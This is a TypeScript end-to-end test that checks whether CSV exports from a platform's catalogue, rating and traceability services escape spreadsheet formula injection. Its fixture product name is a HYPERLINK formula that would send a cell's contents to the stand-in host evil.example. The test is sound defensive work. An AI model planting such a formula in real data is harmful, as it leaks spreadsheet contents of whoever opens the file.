import { parse } from 'csv-parse/sync';
import {
  ApiError,
  eventually,
  placeholderGtin,
  Reply,
  seedCatalogue,
  setUpProducers,
  setUpStaff,
  SignedIn,
  StaffAccounts,
  StoryContext,
} from './story';
import { bootE2ePlatform, E2ePlatform } from './support/e2e-platform';

/** What a producer typed as its product's name and its lot: formulas, should a spreadsheet run them. */
const PRODUCT_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")';
const LOT = '=1+2';

/** The file as any spreadsheet reads it: rows of cells, the header first. */
function cells(reply: Reply<Buffer>): string[][] {
  expect(reply.status).toBe(200);
  expect(reply.headers.get('content-type')).toContain('text/csv');
  // The bytes, not fetch's text(), which drops the byte order mark Excel needs.
  expect([...reply.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(reply.body, { bom: true }) as string[][];
}

/** No cell a spreadsheet would run: none starts with = + - @ tab or carriage return. */
function expectNoFormula(rows: string[][]): void {
  const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
  expect(formulas).toEqual([]);
}

/**
 * A producer's own words travel: the catalogue keeps them, rating and traceability learn them from its events,
 * and officers (and printing houses) open the platform's CSV files in a spreadsheet. Every file neutralises them
 * (decision 0028), whichever service wrote it.
 */
describe('CSV exports across services: formula injection (every service as its own process)', () => {
  let e2e: E2ePlatform;
  let ctx: StoryContext;
  let staff: StaffAccounts;
  let producer: SignedIn;
  let productId: string;
  let batchId: string;

  beforeAll(async () => {
    e2e = await bootE2ePlatform();
    ctx = e2e.ctx;
    staff = await setUpStaff(ctx);
    const catalogue = await seedCatalogue(ctx, staff.admin);
    producer = (await setUpProducers(ctx, staff.admin, catalogue.producers))['producer'];
    const product = await ctx.catalogue.post('/products', {
      token: producer.token,
      body: {
        producerId: producer.producerId,
        nameVi: PRODUCT_NAME,
        productSet: 1,
        gtins: [placeholderGtin(928)],
      },
      expect: 201,
    });
    productId = product.productId;
    await ctx.catalogue.post(`/products/${productId}/activate`, { token: producer.token, expect: 200 });

    // Rating learns the product from the catalogue's events; an officer records its certificate.
    const certificate = [
      'product_id,product_name,producer_name,stars,decision_ref,decision_date',
      `${productId},,,3,928/QĐ-UBND (mẫu),${ctx.today(-1)}`,
    ].join('\r\n');
    const importCertificate = (dryRun: boolean) =>
      ctx.rating.post(`/certificates/import?dryRun=${dryRun}`, {
        token: staff.provinceOfficer.token,
        raw: { contentType: 'text/csv', payload: certificate },
        expect: 200,
      });
    await eventually(async () => {
      const report = await importCertificate(true);
      if (!report.rows[0].ok) throw new ApiError('rating', 'POST', '/certificates/import', 422, report);
    });
    await importCertificate(false);

    // Traceability learns it too; the producer makes a batch and three units to label.
    const batch = await eventually(
      () =>
        ctx.traceability.post('/batches', {
          token: producer.token,
          body: { productId, lot: LOT, quantity: 3, unit: 'XBX', bestBeforeDate: ctx.today(30) },
          expect: 201,
        }),
      { retryOn: (e) => e instanceof ApiError && [404, 409, 422].includes(e.status) },
    );
    batchId = batch.batchId;
    await ctx.traceability.post(`/batches/${batchId}/units`, {
      token: producer.token,
      body: { count: 3 },
      expect: 201,
    });
  }, 600_000);

  afterAll(async () => {
    const unclean = await e2e?.dispose();
    expect(unclean).toEqual([]);
  }, 180_000);

  it("catalogue: the district officer's product export shows the name as text", async () => {
    const rows = cells(
      await ctx.catalogue.download('/exports/products.csv?district=832', {
        token: staff.districtOfficer.token,
      }),
    );
    const [header] = rows;
    const row = rows.find((r) => r[header.indexOf('Mã sản phẩm / Product id')] === productId);
    expect(row?.[header.indexOf('Sản phẩm / Product')]).toBe(`'${PRODUCT_NAME}`);
    expectNoFormula(rows);
  });

  it("rating: the province's certified-products report shows the name as text", async () => {
    const rows = cells(
      await ctx.rating.download('/reports/certified-products.csv', {
        token: staff.provinceOfficer.token,
      }),
    );
    const [header] = rows;
    const row = rows.find((r) => r[header.indexOf('Sản phẩm / Product')].includes('HYPERLINK'));
    expect(row?.[header.indexOf('Sản phẩm / Product')]).toBe(`'${PRODUCT_NAME}`);
    expectNoFormula(rows);
  });

  it('traceability: the label CSV for the printing house shows the name and the lot as text', async () => {
    const rows = cells(
      await ctx.traceability.download(`/batches/${batchId}/labels?format=csv`, {
        token: producer.token,
      }),
    );
    const [header, ...labels] = rows;
    expect(labels).toHaveLength(3);
    for (const label of labels) {
      expect(label[header.indexOf('product_name')]).toBe(`'${PRODUCT_NAME}`);
      expect(label[header.indexOf('lot')]).toBe(`'${LOT}`);
    }
    expectNoFormula(rows);
  });
});
